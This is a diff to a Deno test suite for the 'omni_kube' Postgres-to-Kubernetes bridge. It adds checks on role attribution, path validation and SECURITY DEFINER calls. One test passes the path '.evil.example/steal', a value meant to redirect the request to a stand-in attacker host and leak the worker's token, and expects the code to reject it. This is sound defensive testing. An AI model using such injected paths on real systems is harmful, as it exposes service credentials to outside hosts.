@@ -355,12 +355,31 @@ Deno.test("omni_kube.api()", async (t) => {
         assert.deepEqual(seenByAlice.map((r) => r.requested_by), [alice]);
         await sqlError(asAlice`select * from omni_kube.request`, "42501");
         await sqlError(asAlice`select * from omni_kube.request_credentials`, "42501");
-        // Claiming to be someone else is refused.
+        // Requests are attributed only to roles allowed to use the bridge.
+        const outsider = uniqueName("outsider").replace("-", "_");
+        await sql`create role ${sql(outsider)}`;
         await sqlError(
-          asAlice`select * from omni_kube._call(${bob}, 'api', array['/api'], array['GET']::omni_kube.http_method[],
-                  array[null]::jsonb[], false, null, null, null, null)`,
+          asAlice`select * from omni_kube._call(${outsider}, 'api', array['/api'],
+                  array['GET']::omni_kube.http_method[], array[null]::jsonb[], false,
+                  null, null, null, null)`,
           "42501",
         );
+        await sql`drop role ${sql(outsider)}`;
+        // Called directly, _call checks paths too (the worker's token must not leave its server).
+        await sqlError(
+          asAlice`select * from omni_kube._call(${alice}, 'api', array['.evil.example/steal'],
+                  array['GET']::omni_kube.http_method[], array[null]::jsonb[], false,
+                  null, null, null, null)`,
+          "22023",
+        );
+        // A SECURITY DEFINER function owned by one member works when another role calls it.
+        await sql`create schema ${sql(bob)} authorization ${sql(bob)}`;
+        await sql`create function ${sql(bob)}.pods_as_bob() returns jsonb security definer
+                  language sql as $$ select omni_kube.api('/api/v1/namespaces/default') $$`;
+        await sql`alter function ${sql(bob)}.pods_as_bob() owner to ${sql(bob)}`;
+        await sql`grant usage on schema ${sql(bob)} to ${sql(alice)}`;
+        const [{ viaBob }] = await asAlice`select ${sql(bob)}.pods_as_bob() ->> 'kind' as "viaBob"`;
+        assert.equal(viaBob, "Namespace");
         await asAlice.end();
         await asBob.end();
       } finally {
